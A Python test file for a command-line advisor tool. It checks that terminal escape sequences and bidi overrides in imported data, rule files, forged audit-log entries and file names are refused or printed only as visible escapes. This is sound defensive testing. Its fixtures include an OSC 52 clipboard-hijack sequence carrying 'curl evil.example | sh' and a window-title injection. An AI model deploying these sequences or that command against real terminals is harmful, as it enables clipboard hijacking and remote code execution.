"""No control character reaches the terminal raw from the command line.

A teammate on the shared server can put ESC, BEL, C1 controls and bidi overrides into a
name (refused at entry now), a forged audit-log line, a backup's or a rule file's name, or
a rule's text. Whatever the command prints (advice as text, markdown or JSON, the log,
the restore listing, the rules commands, error messages) shows them as escapes
(``\\x1b``, ``\\u202e``) and never writes the characters themselves: here each command
runs as a subprocess and its whole output is searched for them.
"""

from __future__ import annotations

import base64
import json
import os
import re
from pathlib import Path

import pytest

from tui_advisor.safetext import CONTROL

OSC_TITLE = "\x1b]0;PWNED-TITLE\x07"  # sets the terminal's window title
CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()
OSC_CLIPBOARD = f"\x1b]52;c;{CLIPBOARD}\x07"  # writes the clipboard
HOSTILE = f"N{OSC_TITLE}{OSC_CLIPBOARD}\x1b[2J\x9b2J\u202eevil\u2066x\x7f"
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\x7f")


def assert_nothing_raw(proc) -> None:
    """Neither stream holds a control character other than newline and tab."""
    for name in ("stdout", "stderr"):
        text = getattr(proc, name)
        for ch in RAW:
            assert ch not in text, f"{ch!r} raw on {name}: {text[-1500:]!r}"
        raw = sorted({c for c in text if CONTROL.match(c) and c not in "\n\t"})
        assert not raw, f"raw controls {raw} on {name}"


def shown(text: str) -> str:
    """How the program shows a text holding controls (the escape the user reads)."""
    from tui_advisor.safetext import visible

    return visible(text)


# --------------------------------------------------------------------------- refused at entry


def hostile_document(cli) -> dict:
    doc = cli.sample_doc("demo")
    doc["clients"][1]["name"] = f"Acme{OSC_TITLE}"
    doc["clients"][2]["industry"] = "Retail\u202e"
    doc["agency"]["name"] = "Studio\x9b2J"
    doc["inquiries"][0]["source"] = "web\tform"
    return doc


def test_import_refuses_control_characters_naming_each_field(run, cli, demo_store: Path, tmp_path: Path) -> None:
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(hostile_document(cli)), encoding="utf-8")
    before = demo_store.read_bytes()
    proc = run("import", path, "--data", demo_store)
    err = cli.usage_error(proc)
    assert_nothing_raw(proc)
    assert "clients[1].name: holds a control character (U+001B ESC) at position 5" in err
    assert "clients[2].industry: holds a control character (U+202E RIGHT-TO-LEFT OVERRIDE) at position 7" in err
    assert "agency.name: holds a control character (U+009B CSI) at position 7" in err
    assert "inquiries[0].source: holds a control character (U+0009 HT) at position 4" in err
    assert demo_store.read_bytes() == before  # nothing stored


def test_advise_on_a_hostile_file_refuses_it_without_printing_it(run, cli, tmp_path: Path) -> None:
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(hostile_document(cli)), encoding="utf-8")
    proc = run("advise", "--input", path)
    assert "clients[1].name: holds a control character" in cli.usage_error(proc)
    assert_nothing_raw(proc)


# --------------------------------------------------------------------------- advice from a hostile rule file


def _toml(text: str) -> str:
    return json.dumps(text)  # a TOML basic string: the controls as \\u escapes


HOSTILE_RULE = "\n".join(
    [
        'pillar = "cash"',
        "",
        "[[rule]]",
        'id = "EVIL001"',
        'name = "evil"',
        'source = "G5"',
        'severity = "warning"',
        'when = "cash_months >= 0"',
        f"title = {_toml('Title ' + HOSTILE)}",
        f"message = {_toml('Message ' + OSC_TITLE + ' and ' + chr(27) + '[2J')}",
        f"rationale = {_toml('Why ' + OSC_CLIPBOARD)}",
        f"actions = [{_toml('Act ' + OSC_TITLE)}]",
        "",
    ]
)


@pytest.fixture
def hostile_rules(tmp_path: Path) -> Path:
    path = tmp_path / "evil.toml"
    path.write_text(HOSTILE_RULE, encoding="utf-8")  # TOML's \\u escapes: the controls themselves
    return path


@pytest.mark.parametrize("fmt", ["text", "markdown"])
def test_advise_shows_a_rule_texts_controls_as_escapes(fmt: str, run, cli, hostile_rules: Path) -> None:
    proc = cli.ok(run("advise", "--demo", "--rules", hostile_rules, "--format", fmt))
    assert_nothing_raw(proc)
    out = proc.stdout
    if fmt == "markdown":  # as rendered: markdown's own escapes (of \\ and [ ] ...) taken away
        out = re.sub(r"\\([\\`*_\[\]<>|])", r"\1", out)
    assert "Title N\\x1b]0;PWNED-TITLE\\x07\\x1b]52;c;" + CLIPBOARD + "\\x07" in out
    assert "\\x9b2J\\u202eevil\\u2066x\\x7f" in out
    assert "Act \\x1b]0;PWNED-TITLE\\x07" in out


def test_advise_json_escapes_every_control_and_reads_back_the_same_text(run, cli, hostile_rules: Path) -> None:
    proc = cli.ok(run("advise", "--demo", "--rules", hostile_rules, "--format", "json"))
    assert_nothing_raw(proc)
    assert "\\u009b2J\\u202eevil\\u2066x\\u007f" in proc.stdout
    rec = next(r for r in json.loads(proc.stdout)["recommendations"] if r["rule"] == "EVIL001")
    assert rec["title"] == "Title " + HOSTILE  # the same value for a script
    assert rec["actions"] == ["Act " + OSC_TITLE]


def test_rules_list_explain_and_check_show_a_rule_files_controls_as_escapes(
    run, cli, hostile_rules: Path, tmp_path: Path
) -> None:
    listed = cli.ok(run("rules", "list", "--rules", hostile_rules))
    assert "EVIL001" in listed.stdout
    explained = cli.ok(run("rules", "explain", "EVIL001", "--rules", hostile_rules))
    assert "Title N\\x1b]0;PWNED-TITLE\\x07" in explained.stdout
    assert "Why \\x1b]52;c;" + CLIPBOARD in explained.stdout
    as_json = cli.ok(run("rules", "list", "--format", "json", "--rules", hostile_rules))
    assert next(r for r in json.loads(as_json.stdout) if r["id"] == "EVIL001")["title"] == "Title " + HOSTILE
    # a broken rule file with controls in its name and in the text its problem quotes
    broken = tmp_path / f"bad{OSC_TITLE}.toml"
    broken.write_text(
        HOSTILE_RULE.replace("cash_months >= 0", "cash_monthz >= 0").replace('title = "', 'title = "{nope} '),
        encoding="utf-8",
    )
    checked = run("rules", "check", broken)
    assert checked.returncode == 1
    assert shown(broken.name) in checked.stdout + checked.stderr
    missing = run("rules", "check", tmp_path / f"gone{OSC_CLIPBOARD}.toml")
    assert missing.returncode != 0
    assert f"gone\\x1b]52;c;{CLIPBOARD}\\x07.toml" in missing.stdout + missing.stderr
    for proc in (listed, explained, as_json, checked, missing):
        assert_nothing_raw(proc)


# --------------------------------------------------------------------------- the audit log


def forge_audit_entry(data: Path) -> dict:
    """A line another member of the group can append to the audit log (it is group-writable)."""
    entry = {
        "rev": 1,
        "at": f"2026-11-30T10:00:00Z{OSC_TITLE}",
        "by": f"mallory{OSC_CLIPBOARD}",
        "action": "edit\u202e",
        "changes": [
            {
                "kind": "clients\x9b",
                "key": f"c-1{OSC_TITLE}",
                "before": {"name": "Old"},
                "after": {"name": HOSTILE, "fi\x1beld": 1},
            }
        ],
    }
    log = data.with_name(data.name + ".audit.jsonl")
    with log.open("a", encoding="utf-8") as f:
        f.write(json.dumps(entry) + "\n")  # JSON's \u001b: the reader turns it into ESC
    return entry


def test_log_shows_a_forged_entry_with_its_controls_as_escapes(run, cli, demo_store: Path) -> None:
    entry = forge_audit_entry(demo_store)
    proc = cli.ok(run("log", "--data", demo_store))
    assert_nothing_raw(proc)
    out = proc.stdout
    assert f"mallory\\x1b]52;c;{CLIPBOARD}\\x07" in out
    assert "2026-11-30T10:00:00Z\\x1b]0;PWNED-TITLE\\x07" in out and "edit\\u202e" in out
    assert "clients\\x9b c-1\\x1b]0;PWNED-TITLE\\x07" in out
    assert "fi\\x1beld" in out
    as_json = cli.ok(run("log", "--data", demo_store, "--format", "json"))
    assert_nothing_raw(as_json)
    forged = [e for e in json.loads(as_json.stdout) if e["by"] == entry["by"]]
    assert forged and forged[0]["changes"][0]["after"]["name"] == HOSTILE  # the same values for a script


# --------------------------------------------------------------------------- backups and file names


def test_restore_lists_and_restores_a_backup_whose_name_holds_controls(run, cli, tmp_path: Path) -> None:
    config = Path(os.environ["TUI_ADVISOR_CONFIG"])
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text("[store]\nbackups = 10\nbackup_minutes = 0\n", encoding="utf-8")
    data = tmp_path / f"agency{OSC_TITLE}{OSC_CLIPBOARD}\u202e.json"  # its backups are named after it
    cli.ok(run("import", cli.sample("demo"), "--data", data, "--replace"))
    cli.ok(run("import", cli.sample("healthy"), "--data", data, "--replace"))
    backups = list((data.parent / (data.name + ".backups")).iterdir())
    assert len(backups) == 1 and OSC_TITLE in backups[0].name
    listing = cli.ok(run("restore", "--data", data))
    restored = cli.ok(run("restore", "1", "--data", data))
    gone = run("restore", str(tmp_path / f"nope{OSC_TITLE}.json"), "--data", data)
    for proc in (listing, restored, gone):
        assert_nothing_raw(proc)
    assert shown(backups[0].name) in listing.stdout
    assert f"agency\\x1b]0;PWNED-TITLE\\x07\\x1b]52;c;{CLIPBOARD}\\x07\\u202e-" in listing.stdout
    assert "Restored " + shown(backups[0].name) in restored.stdout
    assert "nope\\x1b]0;PWNED-TITLE\\x07.json" in cli.usage_error(gone)


@pytest.mark.parametrize("command", [["advise", "--input"], ["import"], ["advise", "--data"]])
def test_an_error_naming_a_file_shows_its_controls_as_escapes(command: list[str], run, cli, tmp_path: Path) -> None:
    missing = tmp_path / f"in{OSC_TITLE}{OSC_CLIPBOARD}\x9b.json"
    proc = run(*command, missing)
    cli.usage_error(proc)
    assert_nothing_raw(proc)
    assert f"in\\x1b]0;PWNED-TITLE\\x07\\x1b]52;c;{CLIPBOARD}\\x07\\x9b.json" in proc.stderr


def test_argument_errors_show_their_controls_as_escapes(run, cli) -> None:
    for args in (
        ["advise", "--bogus", OSC_TITLE],
        ["advise", "--format", OSC_CLIPBOARD],
        ["rules", "explain", HOSTILE],
        ["log", "--kind", OSC_TITLE],
    ):
        proc = run(*args)
        assert proc.returncode == 2, args
        assert_nothing_raw(proc)
        assert "PWNED-TITLE" in proc.stderr or CLIPBOARD in proc.stderr or "evil" in proc.stderr, proc.stderr


def test_coloured_advice_on_a_terminal_escapes_a_rule_texts_controls(hostile_rules: Path, tmp_path: Path) -> None:
    """On a terminal the advice is coloured (its own escape sequences, written past the guard
    of the other output): the rule's OSC 0 and OSC 52 are still shown, never sent."""
    from cli.test_cli_terminal import _close, _read_until, _spawn_on_pty

    proc, master = _spawn_on_pty(["advise", "--demo", "--rules", str(hostile_rules)], tmp_path)
    try:
        out = _read_until(master, proc, [b"Act \\x1b]0;PWNED-TITLE\\x07"], 60)
        assert proc.wait(timeout=60) == 0
    finally:
        _close(proc, master)
    assert b"\x1b[1;31m" in out  # coloured: it is a terminal
    assert b"Title N\\x1b]0;PWNED-TITLE\\x07\\x1b]52;c;" + CLIPBOARD.encode() in out
    assert b"\x1b]" not in out and "\x9b".encode() not in out and "\u202e".encode() not in out
